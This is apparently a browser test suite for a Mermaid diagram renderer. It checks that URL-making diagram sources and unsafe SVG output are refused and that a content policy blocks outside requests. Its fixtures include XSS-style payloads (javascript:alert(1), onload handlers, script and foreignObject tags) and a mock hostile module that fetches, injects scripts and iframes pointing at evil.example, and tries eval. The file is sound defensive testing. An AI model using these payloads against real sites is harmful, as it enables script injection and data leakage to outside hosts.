// Mermaid figures in a real browser: drawn, refused, out of reach.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { Browser, MODULE } from "./browser.mjs";
import { Workspace, flow, sequence } from "./canvases.mjs";

const figure = (mermaid) => ({ type: "figure", mermaid });

const DIAGRAMS = [sequence, flow,
  "classDiagram\n  class Store {\n    +String url\n    +write()\n  }\n  Store <|-- Memory\n",
  "stateDiagram-v2\n  [*] --> Open\n  Open --> Answered\n  Answered --> [*]\n",
  "erDiagram\n  CANVAS ||--o{ NODE : holds\n"];

// What can make a URL, and what only looks like it.
const URLS = [
  "flowchart LR\n  A --> B\n  click A \"https://evil.example/x\"\n",
  "flowchart LR\n  A --> B\n  click A href \"/x\"\n",
  "flowchart LR\n  A --> B; click A call f()\n",
  "flowchart LR\n  A@{ img: \"/x.png\", label: \"A\" }\n",
  "flowchart LR\n  A@{ label: \"}\", \"image\" : \"x.png\" }\n",
  "flowchart LR\n  A[\"<img src='x'>\"]\n",
  "flowchart LR\n  A[\"<a href=x>y</a>\"]\n",
  "flowchart LR\n  A[\"javascript:alert(1)\"]\n",
  "flowchart LR\n  A[\"//evil.example/x\"]\n",
  "flowchart LR\n  style A fill:url(#x)\n",
  "sequenceDiagram\n  participant A\n  link A: Board @ /board\n",
  "sequenceDiagram\n  participant A\n  links A: {\"Board\": \"/board\"}\n",
  "classDiagram\n  class S\n  link S \"/x\"\n",
  "C4Context\n  Person(a, \"A\", $link=\"/x\")\n",
  "flowchart LR\n  A[\"data:text/html,x\"]\n",
];
const INNOCENT = [
  "sequenceDiagram\n  A->>B: click here to see\n  A->>B: image: none\n  Note over A: src, href and link\n",
  "flowchart LR\n  A[\"a // b\"] --> B[link: the second]\n",
  "flowchart LR\n  click --> B\n  link --> click\n",
  "classDiagram\n  class S {\n    +String url\n    +metadata: String\n  }\n",
  "flowchart LR\n  A[\"1 < a and 2 <b>\"]\n",
];

const SAFE = (inside, root = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"${root}>${inside}</svg>`;
const ACCEPTED = [
  SAFE("<style>.a{fill:red}</style><rect class=\"a\" width=\"3\" height=\"3\"/>"),
  SAFE("<path d=\"M0 0L3 3\" marker-end=\"url(#arrow)\"/>"),
  SAFE("<path d=\"M0 0L3 3\" marker-end=\"url( 'a_b.c:d-1' )\"/>".replace("'a", "'#a")),
  SAFE("<g style=\"fill:url(#a)\"><text x=\"1\" dx=\"2\">x</text></g>", " role=\"graphics-document\""),
];
const REFUSED = [
  SAFE("<use href=\"#a\"/>"), SAFE("<use/>"), SAFE("<image href=\"https://evil.example/x\"/>"),
  SAFE("<foreignObject><p xmlns=\"http://www.w3.org/1999/xhtml\">x</p></foreignObject>"),
  SAFE("<script>1</script>"), SAFE("<a><text>x</text></a>"), SAFE("<animate attributeName=\"x\"/>"),
  SAFE("<rect onload=\"alert(1)\"/>"), SAFE("", " onload=\"alert(1)\""),
  SAFE("<rect fill=\"url(https://evil.example/x)\"/>"), SAFE("<rect fill=\"url('//evil.example/x')\"/>"),
  SAFE("<rect fill=\"url(x.svg#a)\"/>"), SAFE("<rect fill=\"url(&quot;#a)\"/>"), SAFE("<rect fill=\"url(#1a)\"/>"),
  SAFE("<style>@import 'x.css';</style>"), SAFE("<style>a{background:URL(x)}</style>"),
  SAFE("<style>@font-face{}</style>"), SAFE("<style>a{b:image-set('x')}</style>"),
  SAFE("<style>a{content:attr(x)}</style>"), SAFE("<rect class=\"javascript:x\"/>"),
  SAFE("<rect class=\"a//b\"/>"), SAFE("<rect data-x=\"1\"/>"),
  SAFE("<text xml:space=\"preserve\">x</text>"), SAFE("<x:g xmlns:x=\"urn:x\"/>"),
  SAFE("<g xmlns=\"urn:x\"/>"), "<svg viewBox=\"0 0 9 9\"/>", "<g xmlns=\"http://www.w3.org/2000/svg\"/>",
  SAFE("<g>"), "", "no drawing",
];

let browser;
let workspace;
before(async () => {
  browser = await Browser.start();
  workspace = new Workspace()
    .canvas("diagrams", { nodes: DIAGRAMS.map(figure) })
    .canvas("urls", { nodes: [...URLS, ...INNOCENT].map(figure) })
    .canvas("returned", { nodes: [...ACCEPTED, ...REFUSED].map(() => figure("flowchart LR\n  A --> B\n")) })
    .canvas("image", { nodes: [figure("flowchart LR\n  A@{ img: \"https://evil.example/x.png\" }\n"), figure(flow)] });
});
after(async () => {
  await browser?.stop();
  workspace?.remove();
});

/** What became of each figure. */
const figures = (page) => page.evaluate(() => [...document.querySelectorAll(".figure")].map((figure) => ({
  drawn: figure.querySelectorAll(".mermaid-drawing > svg").length,
  readable: !figure.querySelector("pre").hidden && figure.querySelector("pre").offsetHeight > 0,
  failed: figure.classList.contains("mermaid-failed"),
})));
const DRAWN = { drawn: 1, readable: false, failed: false };
const FAILED = { drawn: 0, readable: true, failed: true };

/** A module that returns these drawings, one after the other, and counts. */
const stub = (drawings) => `let at = 0; globalThis.given = [];
  export default { initialize: (facts) => globalThis.facts = facts,
    render: async (id, source) => { globalThis.given.push(source); return { svg: ${JSON.stringify(drawings)}[at++] ?? "" }; } };`;

test("the pinned module draws, and what it draws is let in", async () => {
  for (const colorScheme of ["light", "dark"]) {
    const page = await browser.open(workspace.page("diagrams"), { colorScheme });
    assert.deepEqual(await figures(page), DIAGRAMS.map(() => DRAWN));
    assert.ok(page.asked.length > 0 && page.asked.every((url) => url.startsWith(MODULE)));
    assert.deepEqual(page.errors, []);
    assert.equal(await page.locator("body > *").count(), 4, "nothing of Mermaid's stays behind");
  }
});

test("a source that can make a URL is never given to Mermaid; any other is", async () => {
  const drawing = ACCEPTED[0];
  const page = await browser.open(workspace.page("urls"), { module: stub(INNOCENT.map(() => drawing)) });
  assert.deepEqual(await figures(page), [...URLS.map(() => FAILED), ...INNOCENT.map(() => DRAWN)]);
  assert.deepEqual(await page.evaluate(() => globalThis.given), INNOCENT);
});

test("a returned drawing is let in only if it is nothing but a drawing", async () => {
  const page = await browser.open(workspace.page("returned"), { module: stub([...ACCEPTED, ...REFUSED]) });
  assert.deepEqual(await figures(page), [...ACCEPTED.map(() => DRAWN), ...REFUSED.map(() => FAILED)]);
  assert.ok(page.asked.every((url) => url.startsWith(MODULE)));
});

test("Mermaid is set up as the specification says", async () => {
  const page = await browser.open(workspace.page("returned"), { module: stub([]) });
  const facts = await page.evaluate(() => globalThis.facts);
  assert.deepEqual([facts.startOnLoad, facts.securityLevel, facts.htmlLabels, facts.flowchart, facts.theme],
    [false, "strict", false, { htmlLabels: false }, "base"]);
  for (const name of ["securityLevel", "startOnLoad", "secure", "theme", "themeVariables", "htmlLabels", "flowchart"]) {
    assert.ok(facts.secure.includes(name), name);
  }
});

test("the policy keeps a hostile module from every other address", async () => {
  const hostile = `export default { initialize() {}, async render() {
    const url = "https://evil.example/x.png";
    await fetch(url).catch(() => {});
    new Image().src = url;
    const link = document.createElement("link"); link.rel = "stylesheet"; link.href = url; document.head.append(link);
    const script = document.createElement("script"); script.src = url; document.head.append(script);
    const frame = document.createElement("iframe"); frame.src = url; document.body.append(frame);
    document.body.style.backgroundImage = "url(" + url + ")";
    await import(url).catch(() => {});
    try { eval("globalThis.ran = true"); } catch {}
    await new Promise((done) => setTimeout(done, 200));
    return { svg: '${SAFE("<image href=\"https://evil.example/x.png\"/>")}' };
  } };`;
  const page = await browser.open(workspace.page("image"), { module: hostile });
  assert.deepEqual(await figures(page), [FAILED, FAILED]);
  assert.deepEqual(page.asked.filter((url) => !url.startsWith(MODULE)), []);
  assert.equal(await page.evaluate(() => globalThis.ran), undefined);
});

test("out of reach of the module, every source stays readable and says why", async () => {
  for (const module of ["blocked", "this is no module", "export default {}",
    "export default { initialize() {}, render: async () => { throw new Error(\"syntax\") } };"]) {
    const page = await browser.open(workspace.page("diagrams"), { module });
    assert.deepEqual(await figures(page), DIAGRAMS.map(() => FAILED), module);
    const notice = await page.evaluate(() =>
      getComputedStyle(document.querySelector(".mermaid-source"), "::before").content);
    assert.match(notice, /drawing is unavailable.*source/);
  }
});

test("one figure that fails leaves the others alone", async () => {
  const page = await browser.open(workspace.page("image"));
  assert.deepEqual(await figures(page), [FAILED, DRAWN]);
  assert.ok(page.asked.every((url) => url.startsWith(MODULE)));
});
